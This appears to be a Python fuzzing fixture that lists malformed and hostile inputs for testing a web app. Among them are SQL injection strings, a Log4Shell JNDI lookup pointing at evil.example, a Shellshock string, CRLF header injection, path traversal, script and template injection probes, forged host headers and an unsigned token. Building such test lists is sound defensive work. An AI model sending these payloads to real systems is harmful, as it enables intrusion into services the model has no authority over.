"""What hostile programs send: JSON, bodies, headers and addresses that are none."""

from __future__ import annotations

from urllib.parse import quote

#: JSON in the place of a value: what is no value, or no value that was meant.
JSON = [
    "NaN", "Infinity", "-Infinity", "-0", "1e999", "-1e999", "1E400", "0.1e-9999", "9" * 400,
    "9" * 5000, "-" + "9" * 5000, "1." + "1" * 5000, "2147483648", "-2147483649",
    "9223372036854775808", "18446744073709551616", "1e309", "true", "false", "null", "0", "-1",
    "1", "01", "1.", ".5", "+1", "0x10", "1_000", "[]", "{}", "[null]", "[[]]", '{"": ""}',
    '[{"a": 1}]', "[" * 50 + "]" * 50, "[" * 900 + "]" * 900, "[" * 100_000,
    '{"a":' * 900 + "1" + "}" * 900, '{"a":' * 20_000, "[" + "1," * 5000 + "1]", '""',
    '"\\u0000"', '"\\ud800"', '"\\udc00\\ud800"', '"\\ud83d"', '"\\uffff"', '"\\x41"', '"\\',
    '"\t"', '"\n"', "'a'", "undefined", "", " ", ",", "}", "]", '{"a": 1, "a": 2}',
    '{"__proto__": {"a": 1}}', '{"__class__": 1}', '{"$ref": "#/"}', '{"base": 1, "base": 2}',
    '"2024-02-30"', '"0000-00-00"', '"0001-01-01T00:00:00+14:00"', '"9999-12-31T23:59:59-14:00"',
    '"10000-01-01"', '"-0001-01-01"', '"2024-01-31T24:00:00Z"', '"2024-01-31T12:00:60Z"',
    '"2024-01-31T12:00:00+99:99"', "1e12", "253402300800", "-62135596801", '"P99999999999D"',
    '"P1Y"', '"-P1D"', '"PT0S"', '"1/0"', '"0/1"', '"9" ', '"true"', '"1"', "// zqx\n1",
    "/* zqx */ 1", "1 // zqx", "#1",
]  # fmt: skip

#: Bytes in the place of a whole body.
BODIES = [
    b"", b" ", b"\0", b"\xff\xfe{\0}\0", b"\xef\xbb\xbf{}", b"\xef\xbb\xbf", b"{", b"}", b"[]",
    b"null", b'"zqx"', b"1", b"NaN", b"{}{}", b"{} x", b'{"a":}', b'{"body": "\xff"}',
    b'{"body": "\xc0\xbc"}', b'{"body": "\xed\xa0\x80"}',
    b'{"body": "a", "body": "<script zqx>"}', b"[" * 100_000, b'{"body":' * 50_000,
    b"body=a&body=b", b"%", b"%%%", b"&&&&", b"====", b"a=%zz&body=%ff%fe",
    b"body=%C0%BC&body=%ED%A0%80", b"body=" + b"%00" * 500, b"&".join([b"a=1"] * 30_000),
    b";".join([b"a=1"] * 100), b"=" + b"a" * 5000, b"a" * 70_000 + b"=1",
    b"body" + b"[]" * 500 + b"=1",
    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'zqx'>]><x>&a;</x>", b"\x1f\x8b\x08\0zqx",
    b'a:4:{s:4:"body";}', b"--\r\n\r\n----\r\n", b"\x80\x04\x95zqx.",
    b"body=a\r\n\r\nGET / HTTP/1.1",
]  # fmt: skip

KINDS = [
    "application/json", "application/json; charset=utf-16", "application/json;charset=zqx",
    "application/JSON", "application/vnd.api+json", "text/json", "application/problem+json",
    "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-7",
    "application/x-www-form-urlencoded;charset=undefined",
    "application/x-www-form-urlencoded; charset=rot13", "multipart/form-data",
    "multipart/form-data; boundary=", "multipart/form-data; boundary=a",
    "multipart/form-data; boundary=" + "a" * 300, "multipart/mixed; boundary=a",
    'multipart/form-data; boundary="a', "multipart/form-data; boundary=a; charset=undefined",
    "multipart/form-data; boundary=a; charset=unicode_escape",
    "multipart/form-data; boundary=\xff", "multipart/form-data; boundary=a\r\nx", "text/plain",
    "text/html", "application/xml", "", ";", "/", "zqx", 'text/plain; charset="',
    "application/octet-stream", "*/*", "application/json, text/plain",
]  # fmt: skip

#: How a part of a multipart body says its words are written; some are codecs, and some no text.
CHARSETS = [
    "utf-8", "utf-7", "utf-16", "utf-32", "latin-1", "idna", "punycode", "undefined",
    "unicode_escape", "raw_unicode_escape", "rot13", "zlib", "hex", "base64", "mbcs", "oem",
    "zqx", "", "\0", "utf\xff", "a" * 300,
]  # fmt: skip

HEADERS = [
    "accept", "accept-encoding", "accept-language", "authorization", "connection",
    "content-encoding", "content-length", "content-type", "cookie", "expect", "forwarded", "from",
    "host", "hx-boosted", "hx-current-url", "hx-history-restore-request", "hx-prompt",
    "hx-request", "hx-target", "hx-trigger", "idempotency-key", "if-match", "if-modified-since",
    "if-none-match", "if-range", "if-unmodified-since", "last-event-id", "origin", "prefer",
    "range", "referer", "sec-fetch-mode", "sec-fetch-site", "te", "transfer-encoding", "upgrade",
    "user-agent", "via", "x-forwarded-for", "x-forwarded-host", "x-forwarded-proto",
    "x-http-method-override", "x-method-override", "x-original-url", "x-rewrite-url",
]  # fmt: skip

VALUES = [
    "", " ", "true", "1", "-1", "9" * 30, "9" * 5000, "\xb2", "\xff\xfe", "é", "null", "*",
    "*/*;q=nan", "en;q=1e999", "de;q=inf,en;q=-1", "de-" * 200, ";q=" * 50, "," * 3000,
    "a" * 16_000, "Bearer", "Bearer ", "Bearer \xff", "Bearer lc_" + "a" * 4000, "Basic YTpi",
    "bearer lc_zqx x", "evil.example", "testserver:99999", "testserver:x", "testserver:",
    "testserver#", "testserver/x", "testserver?x", "testserver\\x", "a@testserver", "[::1",
    "[zqx]", "testserver, evil.example", "TESTSERVER", "testserver.", "\u202etestserver",
    "https://testserver", "null, null", "http://testserver.evil.example", "//testserver",
    "javascript:zqx", "cross-site", "same-origin", "none", "zqx", "bytes=0-", "bytes=-1",
    "bytes=9-1", "bytes=" + ",".join(["0-1"] * 900), "bytes=" + "0-," * 300, "bytes=x",
    "bytes=" + "9" * 5000 + "-", "chunked", "gzip, zqx", "100-continue", "websocket", '"zqx"',
    'W/"zqx"', '"' * 99, "Mon, 99 Zqx 2026 99:99:99 GMT", "charter_session=zqx",
    "charter_session=" + "a" * 9000, "charter_session=\xff", 'charter_session="\\377\\000"',
    "charter_read_care-charter=" + "9" * 5000, "charter_read_care-charter=-1",
    "charter_language=../../etc", "charter_asking=\x01", "=;=;=", "a=b; " * 900,
    "$Version=1; charter_session=x", "for=127.0.0.1;host=evil.example;proto=https",
    "127.0.0.1, ::1", "https", "/sign-out/everywhere", "DELETE", "(select 1)", "' or 1=1 --",
    "${jndi:ldap://evil.example/zqx}", "() { :;}; zqx", "../" * 60, "%0d%0aSet-Cookie: zqx",
]  # fmt: skip

#: In the place of a part of an address.
PARTS = [
    "0", "00", "-1", "1.0", "1e3", "+1", " 1", "2147483647", "2147483648", "9" * 19, "9" * 4301,
    "9" * 6000, "\u0661", "\xb2", "%00", "%0a", "%0d%0aSet-Cookie:zqx", "%ff", "%c0%af",
    "%ed%a0%80", "%2e%2e", "..", ".", "%2f", "%5c", "%25", "%", "%zz", "care-charter",
    "CARE-CHARTER", "inner", "care-charter%00", "care-charter%20", "nothing", "static", "api",
    "me", "a" * 64, "a" * 65, "a" * 3000, "-", "_", "latest", "LATEST", "2024-01-31",
    "0000-00-00", "9999-12-31", "99999-01-01", "2024-02-30", "20240131", "2024-W05-3", "1...2",
    "1...", "...1", "1....2", "1...99999999999", "new", "together", "edit", "live", "{slug}",
    "{{7*7}}", "<script zqx>", "%3Cscript%20zqx%3E", "%22onload%3Dzqx", "' or 1=1 --", "*", "(",
    "[", "\\", ";jsessionid=zqx", "?", "#", "\u202e", "\ufeff", "null", "undefined", "__proto__",
    "constructor", "lc_zqx", "a.b.c", "eyJhbGciOiJub25lIn0.e30.", "A" * 43, "~", "%u0041",
]  # fmt: skip

#: What in a query is read by some page or other.
QUERY = [
    "view", "words", "passage", "review_of", "draft", "next", "said", "day", "a", "b", "before",
    "page", "talk", "answers", "limit", "cursor", "status", "openings", "since", "amendment", "v",
    "revision", "state", "code", "iss", "error", "kind", "about", "comment", "way", "lang", "zqx",
    "slug", "k", "r", "o", "number", "email",
]  # fmt: skip


def in_an_address(words: str) -> str:
    """Words as a part of an address, with what is percent-encoded already left alone."""
    return quote(words, safe="%/?#[]@!$&'()*+,;=:~-._", errors="surrogatepass")
